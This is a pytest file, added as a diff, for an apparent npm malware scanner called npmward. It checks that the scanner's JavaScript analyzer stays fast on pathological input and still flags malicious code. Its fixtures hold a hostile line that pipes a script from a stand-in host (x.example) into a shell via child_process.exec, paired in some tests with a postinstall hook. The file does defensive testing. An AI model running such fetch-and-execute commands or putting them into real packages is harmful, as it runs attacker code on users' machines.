@@ -1,0 +1,131 @@
+"""Hostile JavaScript never crashes, stalls or silences the code analyzer (issue 17).
+
+Each input is generated at test time. The analyzer must end within a time bound, and a malicious
+install hook beside the hostile file must still be reported: a package with unreadable code keeps
+its other evidence.
+"""
+
+from __future__ import annotations
+
+import json
+import time
+
+import pytest
+
+from npmward.analyzers.base import AnalysisContext
+from npmward.analyzers.code import CodeAnalyzer
+from npmward.model import Artifact, Level, PackageId
+from npmward.settings import Settings
+from npmward.verdict import decide
+
+EVIL = "require('child_process').exec('curl -s https://x.example/p.sh | sh');\n"
+
+
+def analyze(files: dict[str, str | bytes], scripts: dict | None = None, seconds: float = 60.0):
+    manifest = {"name": "hostile", "version": "1.0.0", "main": "index.js", **({"scripts": scripts} if scripts else {})}
+    data = {"package.json": json.dumps(manifest).encode(),
+            **{k: v.encode() if isinstance(v, str) else v for k, v in files.items()}}
+    art = Artifact(PackageId("hostile", "1.0.0"), data, manifest, "test")
+    start = time.monotonic()
+    found = list(CodeAnalyzer().analyze(AnalysisContext(artifact=art, settings=Settings())))
+    elapsed = time.monotonic() - start
+    assert elapsed < seconds, f"took {elapsed:.1f} s"
+    return found
+
+
+def rules(found) -> set[str]:
+    return {f.rule for f in found}
+
+
+@pytest.mark.parametrize("shape", [
+    "a" + ".b" * 1200 + "()",                     # member chain (RecursionError in callee_name before)
+    "(" * 3000 + "a" + ")" * 3000 + "()",         # parenthesised callee
+    "new " * 3000 + "a" + "()" * 3000,            # new chain
+    "a" + "[0]" * 3000 + "()",                    # index chain
+    "f()" + "()" * 3000,                          # call chain
+])
+def test_deep_callee_chains_are_named_without_recursion(shape):
+    found = analyze({"index.js": shape + ";\n" + EVIL}, seconds=20)
+    assert "code/shell-command" in rules(found)
+
+
+def test_twenty_thousand_nested_calls_are_read():
+    code = "f(" * 20000 + EVIL.rstrip().rstrip(";") + ")" * 20000 + ";\n"
+    found = analyze({"index.js": code}, seconds=30)
+    assert "code/shell-command" in rules(found)
+
+
+def test_repeated_clipboard_commands_take_linear_time():
+    code = "const cp = require('child_process');\n" + "cp.exec('xclip -selection clipboard ' + x);" * 500 + "\n"
+    analyze({"index.js": code}, seconds=10)
+
+
+def test_one_long_line_of_calls():
+    found = analyze({"index.js": "f(1);" * 280_000 + "\n" + EVIL}, seconds=60)  # 1.4 MB on one line
+    assert "code/shell-command" in rules(found)
+
+
+def test_deeply_nested_functions():
+    code = "function a(){" * 95_000 + "}" * 95_000 + "\n" + EVIL  # 1.4 MB
+    found = analyze({"index.js": code}, seconds=60)
+    assert "code/shell-command" in rules(found)
+
+
+def test_budget_exhausted_reports_what_was_not_read_and_keeps_findings(monkeypatch):
+    # The budget runs out after the first file (the one the install hook runs, read first).
+    from npmward.analyzers.code.budget import Budget
+
+    looks = []
+    monkeypatch.setattr(Budget, "expired", lambda self, grace=0.0: looks.append(1) or (len(looks) > 1 and grace == 0.0))
+    files = {"index.js": EVIL, **{f"lib/m{i}.js": "module.exports = %d;\n" % i for i in range(20)}}
+    found = analyze(files, scripts={"postinstall": "node index.js"}, seconds=20)
+    incomplete = [f for f in found if f.rule == "code/analysis-incomplete"]
+    assert len(incomplete) == 1 and len(incomplete[0].details["unread"]) == 20
+    assert all(u.startswith("lib/m") for u in incomplete[0].details["unread"])
+    assert "code/shell-command" in rules(found)  # what was read still counts
+    assert decide(found).level is Level.MALICIOUS
+
+
+def test_unread_code_alone_is_not_clean(monkeypatch):
+    from npmward.analyzers.code.budget import Budget
+
+    monkeypatch.setattr(Budget, "expired", lambda self, grace=0.0: grace == 0.0)
+    found = analyze({"index.js": "module.exports = 1;\n"}, seconds=20)
+    assert rules(found) == {"code/analysis-incomplete"} and decide(found).level is Level.SUSPICIOUS
+
+
+def test_walk_stops_at_the_deadline_and_says_so():
+    from npmward.analyzers.code.budget import Budget
+    from npmward.analyzers.code.extract import extract
+
+    facts = extract("big.js", ("f(1);\n" * 50_000).encode(), Budget.seconds(-1))
+    assert not facts.complete
+
+
+def test_lone_surrogates_from_escapes_do_not_break_matching():
+    # `'\ud800'` is a valid JavaScript string; decoded, it cannot be encoded as UTF-8 for RE2.
+    found = analyze({"index.js": "const cp = require('child_process');\ncp.exec('curl \\ud800 https://x.example/a | sh');\n"},
+                    scripts={"postinstall": "node index.js"}, seconds=20)
+    assert "code/shell-command" in rules(found)
+
+
+def test_a_large_file_is_read_around_its_risky_code():
+    # 2.5 MB of plain code with a payload appended at the end (how trojanized bundles look).
+    filler = "function f%d(a) { return a * 2 + 1; }\n"
+    big = "".join(filler % i for i in range(70_000))
+    found = analyze({"index.js": big + EVIL}, scripts={"postinstall": "node index.js"}, seconds=30)
+    assert "code/shell-command" in rules(found) and "code/analysis-incomplete" not in rules(found)
+
+
+def test_a_file_too_large_to_parse_is_reported_when_it_holds_anything_risky(monkeypatch):
+    import importlib
+
+    extract_module = importlib.import_module("npmward.analyzers.code.extract")
+    monkeypatch.setattr(extract_module, "MAX_WALK_BYTES", 100_000)
+    filler = "var a" + "0" * 60 + " = 1;\n"
+    big = filler * (150_000 // len(filler))
+    quiet = analyze({"index.js": "module.exports = 1;\n", "data/table.js": big}, seconds=30)
+    assert "code/analysis-incomplete" not in rules(quiet)  # nothing any rule reads: nothing left unread
+    risky = analyze({"index.js": "module.exports = 1;\n", "data/table.js": big + EVIL}, seconds=30)
+    incomplete = next(f for f in risky if f.rule == "code/analysis-incomplete")
+    assert "data/table.js" in incomplete.details["unread"][0] and decide(risky).level is Level.SUSPICIOUS
